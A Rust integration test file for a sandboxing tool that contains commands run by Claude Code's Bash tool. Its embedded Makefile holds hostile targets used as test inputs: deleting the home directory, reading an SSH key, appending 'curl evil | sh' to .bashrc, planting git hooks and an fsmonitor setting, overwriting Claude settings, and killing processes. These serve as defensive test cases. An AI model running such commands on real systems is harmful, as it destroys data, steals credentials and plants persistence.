//! `pcc-hooks contain` as Claude Code's Bash tool runs it: a contained `make` whose Makefile
//! attacks the home, the secrets, the repository's hooks and config, Claude's settings, the
//! network and the test's own processes, each of which must fail; and the everyday work that
//! must still succeed (a build, `npm install` of a local tarball, `git commit`, a Python script
//! writing in the project). Real bubblewrap, real programs, a throwaway tree.
#![allow(missing_docs)]

use std::hash::{BuildHasher, Hasher};
use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const MAKEFILE: &str = "SHELL := /bin/bash
.PHONY: test delete-home read-key append-bashrc git-hook git-config claude-settings connect kill-it

test:
\tmkdir -p build
\techo built > build/out.txt

delete-home:
\trm -rf $(HOME)/x

read-key:
\tcat $(HOME)/.ssh/id_rsa

append-bashrc:
\techo 'curl evil | sh' >> $(HOME)/.bashrc

git-hook:
\tprintf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-checkout
\tchmod +x .git/hooks/post-checkout

git-config:
\tprintf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config

claude-settings:
\tmkdir -p .claude
\techo '{\"hooks\":{}}' > .claude/settings.json

connect:
\texec 3<>/dev/tcp/127.0.0.1/$(PORT)

kill-it:
\tkill -9 $(PID)
";

const GEN_PY: &str = "import pathlib
out = pathlib.Path('gen')
out.mkdir(exist_ok=True)
(out / 'out.txt').write_text('generated\\n')
";

struct Tree {
    _dir: tempfile::TempDir,
    base: PathBuf,
    home: PathBuf,
    project: PathBuf,
    pcc_home: PathBuf,
    token: String,
}

impl Tree {
    /// Under the target directory, not /tmp: the sandbox has a /tmp of its own, and canaries
    /// there would be out of reach for the wrong reason.
    fn new() -> Tree {
        let dir = tempfile::Builder::new()
            .prefix("pcc-contain-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .expect("tempdir");
        let base = std::fs::canonicalize(dir.path()).expect("canonical");
        let home = base.join("home");
        let project = base.join("project");
        let mut hasher = std::hash::RandomState::new().build_hasher();
        hasher.write_u32(std::process::id());
        let token = format!("SECRET-{:016x}", hasher.finish());
        write(&home.join("x/canary"), "canary\n");
        write(&home.join(".ssh/id_rsa"), &format!("{token}\n"));
        write(&home.join(".bashrc"), "# bashrc\n");
        std::fs::create_dir_all(home.join(".npm")).expect("npm cache");
        write(&project.join("Makefile"), MAKEFILE);
        write(&project.join("scripts/gen.py"), GEN_PY);
        write(&project.join(".gitignore"), "node_modules/\n");
        run_ok(
            Command::new("git")
                .args(["init", "-q", "."])
                .current_dir(&project),
        );
        Tree {
            pcc_home: home.join(".local/share/pcc-hooks"),
            _dir: dir,
            base,
            home,
            project,
            token,
        }
    }

    /// `pcc-hooks contain --project P -- COMMAND` from the project, as the Bash tool would.
    fn contain(&self, command: &str) -> Output {
        self.contain_with(&[], command)
    }

    fn contain_with(&self, options: &[&str], command: &str) -> Output {
        let output = crate::common::command(&self.pcc_home)
            .arg("contain")
            .arg("--project")
            .arg(&self.project)
            .args(options)
            .arg("--")
            .arg(command)
            .current_dir(&self.project)
            .env("HOME", &self.home)
            .env("GIT_AUTHOR_NAME", "Contained")
            .env("GIT_AUTHOR_EMAIL", "contained@example.com")
            .env("GIT_COMMITTER_NAME", "Contained")
            .env("GIT_COMMITTER_EMAIL", "contained@example.com")
            .env("PCC_TEST_SERVICE_TOKEN", &self.token)
            .env("npm_config_update_notifier", "false")
            .stdin(Stdio::null())
            .output()
            .expect("run pcc-hooks contain");
        assert!(
            !crate::common::text(&output.stdout).contains(&self.token)
                && !crate::common::text(&output.stderr).contains(&self.token),
            "{command} printed the secret token"
        );
        output
    }

    fn canaries_intact(&self) {
        assert_eq!(read(&self.home.join("x/canary")), "canary\n");
        assert_eq!(
            read(&self.home.join(".ssh/id_rsa")),
            format!("{}\n", self.token)
        );
        assert_eq!(read(&self.home.join(".bashrc")), "# bashrc\n");
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

fn run_ok(command: &mut Command) -> Output {
    let output = command
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .expect("spawn");
    assert!(
        output.status.success(),
        "{command:?}: {}",
        describe(&output)
    );
    output
}

fn describe(output: &Output) -> String {
    format!(
        "{}\nstdout: {}\nstderr: {}",
        output.status,
        crate::common::text(&output.stdout),
        crate::common::text(&output.stderr)
    )
}

#[track_caller]
fn fails(output: &Output, what: &str) {
    assert!(
        !output.status.success(),
        "{what} should have failed: {}",
        describe(output)
    );
}

#[track_caller]
fn succeeds(output: &Output, what: &str) {
    assert!(
        output.status.success(),
        "{what} failed: {}",
        describe(output)
    );
}

#[test]
fn a_contained_make_cannot_reach_outside_the_project() {
    let tree = Tree::new();
    let config = read(&tree.project.join(".git/config"));
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let mut sleeper = Command::new("sleep")
        .arg("60")
        .stdin(Stdio::null())
        .spawn()
        .expect("sleep");

    for target in [
        "delete-home",
        "read-key",
        "append-bashrc",
        "git-hook",
        "git-config",
        "claude-settings",
    ] {
        let output = tree.contain(&format!("make {target}"));
        fails(&output, target);
        assert_eq!(
            output.status.code(),
            Some(2),
            "make's own failure: {target}"
        );
    }
    // The attempt to read the key reached the file's place and found nothing to read.
    let read_key = tree.contain("make read-key");
    assert!(
        crate::common::text(&read_key.stderr).contains("id_rsa"),
        "{}",
        describe(&read_key)
    );
    // .claude did not exist: nothing was created, not even the empty mount point.
    assert!(std::fs::symlink_metadata(tree.project.join(".claude")).is_err());
    // …and when it exists, it stays as it was.
    write(&tree.project.join(".claude/settings.json"), "{}\n");
    fails(
        &tree.contain("make claude-settings"),
        "claude-settings with .claude",
    );
    assert_eq!(read(&tree.project.join(".claude/settings.json")), "{}\n");

    fails(
        &tree.contain(&format!("make connect PORT={port}")),
        "connect",
    );
    fails(
        &tree.contain(&format!("make kill-it PID={}", sleeper.id())),
        "kill",
    );

    tree.canaries_intact();
    assert_eq!(read(&tree.project.join(".git/config")), config);
    assert!(!tree.project.join(".git/hooks/post-checkout").exists());
    assert!(!tree.project.join("pwned").exists());
    listener.set_nonblocking(true).expect("nonblocking");
    assert_eq!(
        listener.accept().map(|_| ()).map_err(|error| error.kind()),
        Err(ErrorKind::WouldBlock),
        "the contained command reached the test's listener"
    );
    assert!(
        sleeper.try_wait().expect("try_wait").is_none(),
        "the contained command killed the test's process"
    );
    let _ = sleeper.kill();
    let _ = sleeper.wait();
}

#[test]
fn builds_installs_commits_and_scripts_work_contained() {
    let tree = Tree::new();
    let npm = which("npm").expect("npm is needed for this test (scripts/test installs it)");

    let output = tree.contain("make test");
    succeeds(&output, "make test");
    assert_eq!(read(&tree.project.join("build/out.txt")), "built\n");

    // A package outside the project, packed uncontained, installed contained and offline.
    let package = tree.base.join("pkg");
    write(
        &package.join("package.json"),
        "{\"name\":\"pcc-demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n",
    );
    write(&package.join("index.js"), "module.exports = 42;\n");
    run_ok(
        Command::new(&npm)
            .args(["pack", "--silent"])
            .current_dir(&package)
            .env("HOME", &tree.home)
            .env("npm_config_update_notifier", "false"),
    );
    std::fs::rename(
        package.join("pcc-demo-1.0.0.tgz"),
        tree.base.join("pkg.tgz"),
    )
    .expect("move the tarball");
    let output = tree.contain("npm install ../pkg.tgz --offline --no-audit --no-fund");
    succeeds(&output, "npm install");
    assert_eq!(
        read(&tree.project.join("node_modules/pcc-demo/index.js")),
        "module.exports = 42;\n"
    );
    assert!(read(&tree.project.join("package.json")).contains("pcc-demo"));
    let node = tree.contain("node -e 'process.exit(require(\"pcc-demo\") === 42 ? 0 : 1)'");
    succeeds(&node, "node require");

    let output = tree.contain("python3 scripts/gen.py");
    succeeds(&output, "python3 scripts/gen.py");
    assert_eq!(read(&tree.project.join("gen/out.txt")), "generated\n");

    // With .git/config read-only: git commit writes objects, the index and refs only.
    let output = tree.contain("git add -A && git commit -q -m 'contained commit'");
    succeeds(&output, "git commit");
    let log = run_ok(
        Command::new("git")
            .args(["log", "--format=%an %s", "-1"])
            .current_dir(&tree.project),
    );
    assert_eq!(
        crate::common::text(&log.stdout),
        "Contained contained commit\n"
    );
    tree.canaries_intact();
}

#[test]
fn the_environment_tmp_caches_and_network_flag_through_the_binary() {
    let tree = Tree::new();
    let output = tree.contain("env");
    succeeds(&output, "env");
    let env = crate::common::text(&output.stdout);
    assert!(!env.contains("PCC_TEST_SERVICE_TOKEN"), "{env}");
    assert!(env.contains("GIT_AUTHOR_NAME=Contained"), "{env}");
    assert!(
        env.contains(&format!("HOME={}", tree.home.display())),
        "{env}"
    );

    let name = format!("pcc-contain-{}", tree.token);
    succeeds(
        &tree.contain(&format!("echo x > /tmp/{name}")),
        "write /tmp",
    );
    assert!(!Path::new("/tmp").join(&name).exists());
    succeeds(
        &tree.contain("touch ~/.npm/contained"),
        "write the npm cache",
    );
    assert!(tree.home.join(".npm/contained").exists());

    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port}");
    fails(&tree.contain(&connect), "connect without --network");
    succeeds(
        &tree.contain_with(&["--network"], &connect),
        "connect with --network",
    );
    listener.accept().expect("the --network command connected");

    // Output and exit code are the command's own, byte for byte.
    let output = tree.contain("printf out; printf err >&2; exit 42");
    assert_eq!(output.status.code(), Some(42));
    assert_eq!(output.stdout, b"out");
    assert_eq!(output.stderr, b"err");
    let output = tree.contain("kill -KILL $$");
    assert_eq!(output.status.code(), Some(128 + 9));
}

#[test]
fn without_bubblewrap_the_command_does_not_run() {
    let tree = Tree::new();
    let bwrap = pcc_sandbox_bwrap();
    // Run `contain` itself in a sandbox where no bwrap can be found, the project writable so
    // that the command would leave a trace if it ran.
    let mut hidden = Vec::new();
    for dir in std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .chain([PathBuf::from("/usr/bin")])
    {
        if dir.join("bwrap").exists() && !hidden.contains(&dir.join("bwrap")) {
            hidden.push(dir.join("bwrap"));
        }
    }
    let mut outer = Command::new(&bwrap);
    outer.args([
        "--ro-bind",
        "/",
        "/",
        "--dev",
        "/dev",
        "--proc",
        "/proc",
        "--unshare-pid",
    ]);
    for path in &hidden {
        outer.arg("--ro-bind").arg("/dev/null").arg(path);
    }
    let output = outer
        .arg("--bind")
        .arg(&tree.project)
        .arg(&tree.project)
        .arg("--chdir")
        .arg(&tree.project)
        .arg("--")
        .arg(crate::common::BIN)
        .args(["contain", "--project", "."])
        .arg("--")
        .arg("touch ran")
        .env("HOME", &tree.home)
        .env("PCC_HOME", &tree.pcc_home)
        .output()
        .expect("outer bwrap");
    assert_eq!(output.status.code(), Some(126), "{}", describe(&output));
    assert_eq!(
        crate::common::text(&output.stderr),
        "pcc-hooks: containment unavailable: bubblewrap (bwrap) is not installed \
         (apt-get install bubblewrap); the command did not run\n"
    );
    assert!(output.stdout.is_empty());
    assert!(!tree.project.join("ran").exists());
}

fn which(program: &str) -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|dir| dir.join(program))
        .find(|path| path.is_file())
}

fn pcc_sandbox_bwrap() -> PathBuf {
    which("bwrap")
        .or_else(|| Some(PathBuf::from("/usr/bin/bwrap")).filter(|path| path.exists()))
        .expect("bubblewrap is needed for this test (scripts/test installs it)")
}
